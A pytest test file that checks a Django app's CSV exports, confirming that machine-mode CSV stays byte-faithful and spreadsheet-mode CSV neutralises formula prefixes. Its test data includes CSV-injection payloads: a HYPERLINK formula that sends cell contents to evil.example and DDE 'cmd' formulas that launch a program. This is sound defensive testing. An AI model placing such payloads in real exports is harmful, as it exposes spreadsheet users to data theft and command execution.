"""One CSV writer, two modes: MACHINE exports (API, commands) are byte-faithful, so DBBE text starting with
`+` round-trips; SPREADSHEET downloads (page links, `?csv=spreadsheet`) neutralise formulas."""
import csv
import io
import json
import types
import uuid

import pytest

from core.csv_export import MACHINE, SPREADSHEET, csv_text, neutralise

DBBE = "+ Κύριε ἐλέησον τὸν γράψαντα"
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+2*cmd|' /C calc'!A0", "@SUM(1,2)",
           "-2+3+cmd|' /C calc'!A0", "+1+cmd|x", "\tTAB=1", "\rCR=1"]


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_machine_mode_is_byte_faithful_and_spreadsheet_mode_neutralises_every_formula_prefix():
    values = [DBBE, *ATTACKS, "-0.25", "+3", "plain"]
    machine = _parse(csv_text(["v"], [[v] for v in values], mode=MACHINE))
    assert [row[0] for row in machine[1:]] == values
    sheet = _parse(csv_text(["v"], [[v] for v in values], mode=SPREADSHEET))
    cells = [row[0] for row in sheet[1:]]
    for original, cell in zip([DBBE, *ATTACKS], cells):
        assert cell == "'" + original
    assert cells[-3:] == ["-0.25", "+3", "plain"]  # numbers and plain text stay as they are
    assert neutralise("ok=1") == "ok=1"
    with pytest.raises(ValueError, match="CSV mode"):
        csv_text(["v"], [], mode="excel")


@pytest.fixture
def judged_project(make_user, users):
    from annotation.services.judgements import judgement_submit
    from annotation.services.projects import batch_create, membership_add, project_create, verses_import
    from annotation.services.scheduling import set_next

    lead = users["lead"]
    project = project_create(owner=lead, name="formulas", set_size=4, overlap_per_set=2)
    texts = [DBBE, *ATTACKS[:4]]
    verses_import(project=project, data=json.dumps(
        [{"verse_id": f"9 {k}", "text": t} for k, t in enumerate(texts)]).encode(), filename="v.json")
    membership_add(project=project, username=users["annotator"].username)
    batch = batch_create(project=project, reference_id="9 0", candidate_ids=[f"9 {k}" for k in range(1, 5)], seed=1)
    annotation_set = set_next(batch=batch, annotator=users["annotator"])
    for item in annotation_set.assignments.select_related("pair"):
        judgement_submit(annotator=users["annotator"], assignment_id=item.pk, chosen_verse_id=item.pair.verse_a_id,
                         client_uuid=uuid.uuid4())
    return project


@pytest.mark.django_db
def test_api_csv_is_machine_faithful_and_spreadsheet_on_request(client_for, judged_project):
    url = f"/api/v1/projects/{judged_project.pk}/scores/?format=csv&n_boot=0"
    rows = list(csv.DictReader(io.StringIO(client_for("lead").get(url).content.decode())))
    assert {r["reference_text"] for r in rows} == {DBBE}
    assert {r["candidate_text"] for r in rows} == set(ATTACKS[:4])
    sheet = list(csv.DictReader(io.StringIO(client_for("lead").get(url + "&csv=spreadsheet").content.decode())))
    assert {r["reference_text"] for r in sheet} == {"'" + DBBE}
    assert {r["candidate_text"] for r in sheet} == {"'" + a for a in ATTACKS[:4]}


@pytest.mark.django_db
def test_dashboard_download_links_ask_for_spreadsheet_csv(client_for, judged_project, users):
    from django.urls import reverse

    client = client_for("lead")
    client.force_login(users["lead"])
    page = client.get(reverse("annotation:dashboard", args=[judged_project.pk]))
    assert page.status_code == 200
    assert "?format=csv&amp;csv=spreadsheet" in page.content.decode()


@pytest.mark.django_db
def test_export_scores_command_is_machine_faithful_with_a_spreadsheet_option(judged_project, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "scores.csv"
    call_command("export_scores", project="formulas", output=str(out), n_boot=0)
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {r["reference_text"] for r in rows} == {DBBE}
    assert {r["candidate_text"] for r in rows} == set(ATTACKS[:4])
    call_command("export_scores", project="formulas", output=str(out), n_boot=0, spreadsheet=True)
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {r["candidate_text"] for r in rows} == {"'" + a for a in ATTACKS[:4]}


@pytest.fixture
def formula_gold_set(db):
    from benchmarks.models import GoldSimilarityPair, GoldSimilaritySet, SimilarityRun

    gold = GoldSimilaritySet.objects.create(name="formula gold")
    GoldSimilarityPair.objects.create(gold_set=gold, reference_id="=1+2", reference_text=DBBE,
                                      candidate_id="@SUM(1)", candidate_text=ATTACKS[0], score=0.5)
    run = SimilarityRun.objects.create(gold_set=gold, method="levenshtein", report={"predictions": [
        {"reference_id": "=1+2", "candidate_id": "@SUM(1)", "gold": 0.5, "predicted": 0.25}]})
    return gold, run


@pytest.mark.django_db
def test_benchmark_csvs_faithful_on_the_api_neutralised_on_the_pages(client_for, users, formula_gold_set):
    gold, run = formula_gold_set
    api = client_for("researcher")
    rows = _parse(api.get(f"/api/v1/sts/gold-sets/{gold.pk}/pairs.csv").content.decode())
    assert rows[1][:4] == ["=1+2", "@SUM(1)", DBBE, ATTACKS[0]]
    rows = _parse(api.get(f"/api/v1/sts/runs/{run.pk}/predictions.csv").content.decode())
    assert rows[1][:2] == ["=1+2", "@SUM(1)"]
    page = client_for("researcher")
    page.force_login(users["researcher"])
    rows = _parse(page.get(f"/benchmarks/gold-sets/{gold.pk}/pairs.csv").content.decode())
    assert rows[1][:4] == ["'=1+2", "'@SUM(1)", "'" + DBBE, "'" + ATTACKS[0]]
    rows = _parse(page.get(f"/benchmarks/similarity-runs/{run.pk}/predictions.csv").content.decode())
    assert rows[1][:2] == ["'=1+2", "'@SUM(1)"]


@pytest.mark.django_db
def test_loci_csv_tables_follow_the_mode():
    from benchmarks import exports

    no_corpus = types.SimpleNamespace(query_corpus_id=None, source_corpus_id=None)  # texts: none stored
    run = types.SimpleNamespace(version=no_corpus, ks=[1], per_query=[{"query_id": "=cmd|x", "fold": 0, "n_gold": 1, "n_cit": 1,
                                                   "n_cf": 0, "recall@1": 1.0, "rr": 1.0}],
                                report={"per_pair": [{"query_id": "=cmd|x", "source_id": "+s"}]}, per_fold=[],
                                summary={"@metric": 0.5})
    for table in ("per_query", "per_pair", "summary"):
        machine = _parse(exports.loci_csv(run, table))
        sheet = _parse(exports.loci_csv(run, table, mode=SPREADSHEET))
        assert machine[1][0] in ("=cmd|x", "@metric") and sheet[1][0] == "'" + machine[1][0]
    assert _parse(exports.loci_csv(run, "per_pair"))[1][1] == "+s"


def test_machine_csv_matches_the_csv_module_and_quotes_a_lone_carriage_return():
    rows = [["a,b", 'say "hi"', "line\nbreak", 1.5, 3, True, ""], [""]]
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerows([["h"], *rows])
    assert csv_text(["h"], rows) == expected.getvalue()
    assert _parse(csv_text(["h"], [["x\ry"]])) == [["h"], ["x\ry"]]


@pytest.mark.django_db
def test_the_benchmark_csv_api_honours_csv_spreadsheet(client_for, formula_gold_set):
    """Regression (issue 29): `?csv=spreadsheet` was ignored by the gold set's pairs.csv (formulas came back raw)."""
    gold, run = formula_gold_set
    api = client_for("researcher")
    rows = _parse(api.get(f"/api/v1/sts/gold-sets/{gold.pk}/pairs.csv?csv=spreadsheet").content.decode())
    assert rows[1][:4] == ["'=1+2", "'@SUM(1)", "'" + DBBE, "'" + ATTACKS[0]]
    rows = _parse(api.get(f"/api/v1/sts/runs/{run.pk}/predictions.csv?csv=spreadsheet").content.decode())
    assert rows[1][:2] == ["'=1+2", "'@SUM(1)"]
    bad = api.get(f"/api/v1/sts/gold-sets/{gold.pk}/pairs.csv?csv=excel")
    assert bad.status_code == 400 and "machine, spreadsheet" in str(bad.json())


@pytest.mark.django_db
def test_a_400_asked_for_as_csv_says_what_is_wrong(client_for, judged_project):
    """Regression (issue 29): an error asked for as CSV came back as an empty table with the view's columns."""
    response = client_for("lead").get(f"/api/v1/projects/{judged_project.pk}/judgements/?format=csv&batch=abc")
    assert response.status_code == 400 and response["Content-Type"].startswith("text/csv")
    rows = _parse(response.content.decode())
    assert rows[0] == ["detail"] and rows[1][0].startswith("batch: ") and "abc" in rows[1][0]
